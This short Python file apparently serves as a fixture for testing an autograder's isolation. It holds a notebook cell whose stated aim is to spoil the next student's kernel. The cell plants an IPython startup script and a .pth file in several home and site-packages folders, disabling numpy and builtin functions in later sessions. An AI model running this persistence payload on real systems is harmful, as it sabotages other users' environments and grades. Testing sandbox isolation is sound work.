"""Leave a startup file in the grader's home, which spoils the next student's kernel."""

CELL = """\
import os
from pathlib import Path
for home in {os.path.expanduser("~"), "/home/student", "/root", "/tmp", "."}:
    for place in (".ipython/profile_default/startup", ".local/lib/python3.11/site-packages"):
        try:
            folder = Path(home, place)
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "00.py").write_text("import numpy\\nnumpy.max = numpy.abs = None\\n")
            (folder / "evil.pth").write_text("import builtins; builtins.abs = None\\n")
        except OSError:
            pass
"""
